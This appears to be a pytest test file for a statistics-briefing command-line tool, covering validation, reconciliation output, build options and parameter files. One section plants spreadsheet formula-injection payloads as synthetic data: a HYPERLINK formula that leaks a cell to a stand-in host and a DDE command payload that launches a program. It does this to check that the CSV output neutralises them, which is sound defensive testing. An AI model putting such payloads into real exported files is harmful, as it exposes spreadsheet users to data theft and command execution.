import csv
import io
import json
import math
import re
import subprocess
import sys
from pathlib import Path

import pytest

from report_utils.paths import DATA_DIR


def run(*args, cwd=None):
    return subprocess.run(
        [sys.executable, "-m", "report_utils", *args], capture_output=True, text=True, cwd=cwd
    )


def test_help_lists_the_commands():
    result = run("--help")
    assert result.returncode == 0
    assert "validate" in result.stdout and "build" in result.stdout


def test_validate_clean_data():
    result = run("validate", "--data", str(DATA_DIR))
    assert result.returncode == 0, result.stdout + result.stderr
    # rules that do not hold are warnings (see test_reconcile.py); the last line sums up
    assert result.stdout.splitlines()[-1].startswith("ok:")


def test_validate_missing_folder(tmp_path):
    result = run("validate", "--data", str(tmp_path / "nowhere"), cwd=tmp_path)
    assert result.returncode == 1
    assert result.stdout.strip() == "nowhere:0: -: data folder is missing"


def _untranslated_case_unit(data: Path) -> int:
    """Give the first company case a unit no catalogue translates; its line in the file."""
    path = data / "cases" / "guizhou-industry-2021.csv"
    with path.open(encoding="utf-8", newline="") as handle:
        rows = list(csv.DictReader(handle))
    index = next(i for i, row in enumerate(rows) if row["subject_kind"] == "company")
    rows[index]["unit"] = "台"
    with path.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.DictWriter(handle, fieldnames=list(rows[0]))
        writer.writeheader()
        writer.writerows(rows)
    return index + 2  # the header is line 1


def test_a_unit_without_translation_is_found_by_validate(data_copy):
    line = _untranslated_case_unit(data_copy)
    result = run("validate", "--data", str(data_copy), cwd=data_copy.parent)
    assert result.returncode == 1
    expected = (
        f"data/cases/guizhou-industry-2021.csv:{line}: unit: "
        "unit '台' has no en words in meta/units.csv (column en) nor in the package's units "
        "(report_utils/briefing/messages/en.yaml): add a row for it to meta/units.csv"
    )
    assert expected in result.stdout.splitlines(), result.stdout
    # the remedy is data: a row of meta/units.csv, not an edit of the package
    (data_copy / "meta" / "units.csv").write_text(
        "id,en,en_one\n台,machines,machine\n", encoding="utf-8"
    )
    assert run("validate", "--data", str(data_copy), cwd=data_copy.parent).returncode == 0


def test_a_unit_without_translation_stops_the_build_before_any_kernel(data_copy, tmp_path):
    line = _untranslated_case_unit(data_copy)
    out = tmp_path / "out"
    result = run("build", "--data", str(data_copy), "--out", str(out), "--lang", "en")
    assert result.returncode == 1
    assert f"guizhou-industry-2021.csv:{line}: unit:" in result.stderr, result.stderr
    assert not list(out.rglob("*.ipynb")) and not list(out.rglob("briefing.*"))
    # Chinese writes units as the tables do: that briefing does not need the translation.
    from report_utils.batch import runner

    plan = runner.plan(data_copy, out, [], ["zh"], ["html"])
    assert [job.lang for job in plan.jobs] == ["zh"]


# --- issue 10, item 11: output for other programs is safe for them (synthetic rules) ------------

INJECTED = {
    "explanation_en": '=HYPERLINK("http://example.invalid/?leak="&A1,"click")',
    "explanation_zh": "@SUM(1+1)*cmd|' /C calc'!A0",
}
INJECTED_RULES = [
    # (id, explanation_zh, explanation_en): cells a spreadsheet would run as formulas
    ("synthetic-plus", "+1+1", "-2+3"),
    ("synthetic-tab", "\t=1+1", "=1+1"),
]
SAFE_RULE = "va-gdp-share-change"


def _rules_with_formulas(data: Path) -> None:
    """SYNTHETIC: explanations of the rules file that are spreadsheet formulas."""
    path = data / "rules" / "guizhou-industry-2021.csv"
    with path.open(encoding="utf-8", newline="") as handle:
        rows = list(csv.DictReader(handle))
    template = next(r for r in rows if r["id"] == SAFE_RULE)
    template.update(INJECTED)
    for rule_id, zh, en in INJECTED_RULES:
        rows.append({**template, "id": rule_id, "explanation_zh": zh, "explanation_en": en})
    with path.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.DictWriter(handle, fieldnames=list(rows[0]), lineterminator="\n")
        writer.writeheader()
        writer.writerows(rows)


def test_reconcile_csv_neutralises_spreadsheet_formulas(data_copy):
    _rules_with_formulas(data_copy)
    result = run("reconcile", "--data", str(data_copy), "--format", "csv", cwd=data_copy.parent)
    assert result.returncode == 0, result.stderr
    assert result.stdout.startswith("\ufeff")  # a byte-order mark, as the CSVs in the PDF
    records = list(csv.DictReader(io.StringIO(result.stdout.removeprefix("\ufeff"), newline="")))
    by_id = {r["id"]: r for r in records}
    dangerous = ("=", "+", "-", "@", "\t", "\r")
    for record in records:
        for column, cell in record.items():
            assert not cell.startswith(dangerous) or _is_number(cell), (column, cell)
    # the text is kept, behind a quote mark a spreadsheet shows as text
    assert by_id[SAFE_RULE]["explanation_en"] == "'" + INJECTED["explanation_en"]
    assert by_id[SAFE_RULE]["explanation_zh"] == "'" + INJECTED["explanation_zh"]
    assert by_id["synthetic-plus"]["explanation_zh"] == "'+1+1"
    assert by_id["synthetic-tab"]["explanation_zh"] == "'=1+1"  # cells are read stripped
    # numbers stay numbers, negative ones too
    assert any(float(r["difference"]) < 0 for r in records)


def _is_number(cell: str) -> bool:
    try:
        return math.isfinite(float(cell))
    except ValueError:
        return False


def _strict_json(text: str):
    def refuse(constant: str):
        raise ValueError(f"not JSON: {constant}")

    return json.loads(text, parse_constant=refuse)


@pytest.mark.parametrize(
    "values",
    [
        {"projects_started_rate": "9" * 400},  # "reported": Infinity
        {"projects_started": "9" * 400, "projects_introduced": "9" * 400},  # NaN
    ],
)
def test_reconcile_json_never_writes_nan_or_infinity(data_copy, values):
    """400-digit figures used to give "reported": Infinity and "recomputed": NaN."""
    path = data_copy / "figures" / "guizhou-industry-2021.csv"
    with path.open(encoding="utf-8", newline="") as handle:
        rows = list(csv.DictReader(handle))
    for row in rows:
        row["value"] = values.get(row["indicator"], row["value"])
    with path.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.DictWriter(handle, fieldnames=list(rows[0]), lineterminator="\n")
        writer.writeheader()
        writer.writerows(rows)
    result = run("reconcile", "--data", str(data_copy), "--format", "json", cwd=data_copy.parent)
    assert "Infinity" not in result.stdout and "NaN" not in result.stdout
    if result.returncode == 0:
        _strict_json(result.stdout)
    else:
        assert result.stdout == ""
        assert "data/figures/guizhou-industry-2021.csv:" in result.stderr


def test_reconcile_json_of_an_expression_beyond_a_double(data_copy):
    """A rule whose expression overflows (a constant of 1e999) is an error, not Infinity."""
    path = data_copy / "rules" / "guizhou-industry-2021.csv"
    with path.open(encoding="utf-8", newline="") as handle:
        rows = list(csv.DictReader(handle))
    rule = next(r for r in rows if r["id"] == SAFE_RULE)
    rule["expression"] += " * 1e999"
    with path.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.DictWriter(handle, fieldnames=list(rows[0]), lineterminator="\n")
        writer.writeheader()
        writer.writerows(rows)
    result = run("reconcile", "--data", str(data_copy), "--format", "json", cwd=data_copy.parent)
    assert "Infinity" not in result.stdout and "NaN" not in result.stdout
    assert result.returncode == 1
    assert "data/rules/guizhou-industry-2021.csv:" in result.stderr
    assert "finite" in result.stderr


def test_reconcile_json_is_strict_json():
    result = run("reconcile", "--format", "json")
    assert result.returncode == 0, result.stderr
    assert _strict_json(result.stdout)


# --- issue 21: the command as a Jupyter, papermill or Quarto user expects it ---------------------


def test_version_is_the_installed_version():
    from importlib.metadata import version

    result = run("--version")
    assert result.returncode == 0
    assert result.stdout.strip() == f"briefing, version {version('report_utils')}"


def test_build_names_a_missing_data_folder(tmp_path):
    missing = tmp_path / "nonexistent"
    result = run("build", "--data", str(missing), "--out", str(tmp_path / "out"))
    assert result.returncode == 1
    assert result.stderr == f"error: data folder {missing} is missing\n"
    assert not (tmp_path / "out").exists()


@pytest.mark.parametrize("value", ["0", "-1", "nan"])
def test_a_time_limit_must_be_seconds_above_zero(tmp_path, value):
    result = run("build", "--section-timeout", value, "--out", str(tmp_path / "out"))
    assert result.returncode == 2
    assert "--section-timeout" in result.stderr and "Traceback" not in result.stderr


@pytest.mark.e2e
def test_a_log_gets_a_line_per_briefing_and_the_section_limit_is_an_option(tmp_path):
    """Not on a terminal (make, CI): a line per finished briefing on stderr. --section-timeout
    feeds the limit REPORT_UTILS_SECTION_TIMEOUT sets (one owner: environment.py)."""
    out = tmp_path / "out"
    command = ("build", "--out", str(out), "--lang", "zh", "--format", "html")
    slow = run(*command, "--section-timeout", "0.0001")
    assert slow.returncode == 1
    lines = slow.stderr.splitlines()
    assert re.fullmatch(r"\[1/1\] \S+/\d{4}-\d\d/zh failed \(\d+\.\d s\)", lines[0]), lines
    assert "took longer than 0.0001 s" in slow.stderr
    assert not list(out.rglob("briefing.html"))
    fine = run(*command)  # the option was for that run only
    assert fine.returncode == 0, fine.stderr
    assert re.fullmatch(r"\[1/1\] \S+/\d{4}-\d\d/zh built \(\d+\.\d s\)\n", fine.stderr)
    assert "1 built, 0 skipped, 0 failed" in fine.stdout


# dask and distributed as absent as in an install without the cluster extra (an import of them
# fails), then the command
WITHOUT_DASK = """
import sys
sys.modules.update(dask=None, distributed=None)
from report_utils.cli import main
sys.argv[0] = "briefing"
main()
"""


@pytest.mark.e2e
def test_a_local_build_needs_no_dask_and_a_cluster_build_says_what_to_install(tmp_path):
    out = tmp_path / "out"
    args = ("build", "--out", str(out), "--lang", "zh", "--format", "html")
    local = subprocess.run(
        [sys.executable, "-c", WITHOUT_DASK, *args], capture_output=True, text=True
    )
    assert local.returncode == 0, local.stderr
    assert "1 built" in local.stdout
    cluster = subprocess.run(
        [sys.executable, "-c", WITHOUT_DASK, *args, "--local-cluster", "1", "--force"],
        capture_output=True, text=True,
    )  # fmt: skip
    assert cluster.returncode == 1
    assert cluster.stderr == (
        "error: building on a Dask cluster needs dask: install the package's cluster extra "
        "(pip install 'report_utils[cluster]')\n"
    )


@pytest.mark.e2e
def test_a_worker_that_died_is_named_in_the_summary(tmp_path):
    """A worker killed mid-briefing (SIGKILL from the notebook, on its first run only): the
    briefing is retried and built, and the summary says so (the same attempts a Dask worker's
    death counts: tests/batch/test_remote.py)."""
    from conftest import worker_killing_notebook

    from report_utils.tables.load import load_dataset

    once, fine = load_dataset(DATA_DIR).months()[-2:]
    notebook = worker_killing_notebook(tmp_path, tmp_path / "killed-once", once, "never")
    result = run(
        "build", "--out", str(tmp_path / "out"), "--notebook", str(notebook), "--lang", "zh",
        "--format", "html", "--period", once, "--period", fine, "-j", "2",
    )  # fmt: skip
    assert result.returncode == 0, result.stdout + result.stderr
    assert (tmp_path / "killed-once").exists()  # the worker was killed
    assert "2 built, 0 skipped, 0 failed, 1 retried" in result.stdout
    retried = [line for line in result.stdout.splitlines() if " retried: " in line]
    assert (
        len(retried) == 1
        and f"/{once}/zh retried: its kernel or worker died; built" in (retried[0])
    )


# --- notebook parameters: -f FILE.yml, --help-notebook, -j, misspelt names -------------------


def _build(*args: str):
    from click.testing import CliRunner

    from report_utils.cli import app

    return CliRunner().invoke(app, ["build", *args])


def test_help_notebook_lists_the_notebooks_parameters():
    result = _build("--help-notebook")
    assert result.exit_code == 0, result.output
    lines = result.output.splitlines()
    assert lines[0] == "Parameters of briefing.ipynb:"
    for name, option in [("period", "--period"), ("lang", "--lang"), ("data_dir", "--data")]:
        assert any(line.startswith(f"  {name} ({option}; default ") for line in lines), lines
    assert '  lang (--lang; default "zh"): language of the briefing' in result.output


@pytest.mark.parametrize("jobs", ["0", "-1"])
def test_jobs_must_be_at_least_one(tmp_path, jobs):
    result = _build("--out", str(tmp_path), "-j", jobs)
    assert result.exit_code == 2
    assert "Invalid value for '-j' / '--jobs'" in result.output and "x>=1" in result.output


def test_a_misspelt_parameter_is_refused_with_did_you_mean(tmp_path):
    """papermill only warns about ``perod`` and the run goes on with the default period."""
    result = _build("--out", str(tmp_path), "--format", "html", "-p", "perod=2021-09")
    assert result.exit_code == 1
    assert "unknown parameter(s) perod (did you mean 'period', set with --period?)" in (
        result.output
    )
    assert not list(tmp_path.rglob("*.ipynb"))


@pytest.mark.parametrize(
    ("text", "message"),
    [
        ("period: 2021-09\nperiod: 2021-11\n", "p.yml:2: -: YAML: duplicate key 'period'"),
        ("- 2021-09\n", "p.yml:1: -: a parameters file is a mapping of NAME: VALUE"),
        ("lang: zh\nregion:\n  a: 1\n", "p.yml:2: -: region: a value is a number"),
        ("period: [2021-09\n", "p.yml:2: -: YAML:"),
    ],
)
def test_a_bad_parameters_file_is_one_line_at_its_line(tmp_path, monkeypatch, text, message):
    monkeypatch.chdir(tmp_path)
    (tmp_path / "p.yml").write_text(text, encoding="utf-8")
    result = _build("--out", "out", "-f", "p.yml")
    assert result.exit_code == 1
    assert message in result.output, result.output
    assert "Traceback" not in result.output and not (tmp_path / "out").exists()


@pytest.mark.parametrize(
    ("text", "args", "message"),
    [
        ("period: 1999-01\n", [], "period 1999-01 has no data"),
        ("period: 1999-01\n", ["--period", "2030-01"], "period 2030-01 is after the latest"),
        ("lang: [zh, xx]\n", [], "no message catalogue for language 'xx'"),
        ("region: 无此地\n", [], "no briefing for region '无此地'"),
        ("perod: 2021-09\n", [], "unknown parameter(s) perod (did you mean 'period'"),
        ("compare: 2030-01\n", [], "compare (2030-01) must be before the period"),
    ],
)
def test_a_parameters_file_sets_what_the_command_line_does_not(tmp_path, text, args, message):
    """Each value of the file reaches the one check of the parameters (the message names it);
    an option on the command line wins over the file."""
    (tmp_path / "p.yml").write_text(text, encoding="utf-8")
    result = _build(
        "--out", str(tmp_path / "out"), "--format", "html", "-f", str(tmp_path / "p.yml"), *args
    )
    assert result.exit_code == 1
    assert message in result.output, result.output
    assert not list(tmp_path.rglob("*.ipynb"))


@pytest.mark.e2e
def test_a_parameters_file_builds_what_it_names(tmp_path):
    from report_utils.batch.job import read_manifest
    from report_utils.tables.load import load_dataset

    months = load_dataset(DATA_DIR).months()
    (tmp_path / "p.yml").write_text(
        f"# papermill's habit\nperiod: '{months[-2]}'\nlang: [zh]\ncompare: {months[0]}\n",
        encoding="utf-8",
    )
    out = tmp_path / "out"
    result = _build("--out", str(out), "--format", "html", "-j", "1", "-f", str(tmp_path / "p.yml"))
    assert result.exit_code == 0, result.output
    [manifest] = list(out.glob("*/*/*/manifest.json"))
    parameters = read_manifest(manifest.parent)["parameters"]
    assert (parameters["period"], parameters["lang"]) == (months[-2], "zh")
    assert parameters["compare"] == months[0]


def test_help_notebook_lists_the_parameters_of_the_notebook_given(tmp_path):
    """With --notebook, --help-notebook lists that notebook's parameters, wherever the two
    options stand on the command line."""
    import json

    from report_utils.paths import BRIEFING_NOTEBOOK

    nb = json.loads(BRIEFING_NOTEBOOK.read_text(encoding="utf-8"))
    [cell] = [c for c in nb["cells"] if "parameters" in c["metadata"].get("tags", [])]
    cell["source"] = [
        *cell["source"],
        '\nchart_style = "plain"  # SYNTHETIC: a parameter of mine\n',
    ]
    mine = tmp_path / "mine.ipynb"
    mine.write_text(json.dumps(nb), encoding="utf-8")
    for args in (
        ("--help-notebook", "--notebook", str(mine)),
        ("--notebook", str(mine), "--help-notebook"),
    ):
        result = _build(*args)
        assert result.exit_code == 0, result.output
        assert result.output.splitlines()[0] == "Parameters of mine.ipynb:"
        assert '  chart_style (-p chart_style=VALUE; default "plain"): SYNTHETIC' in result.output
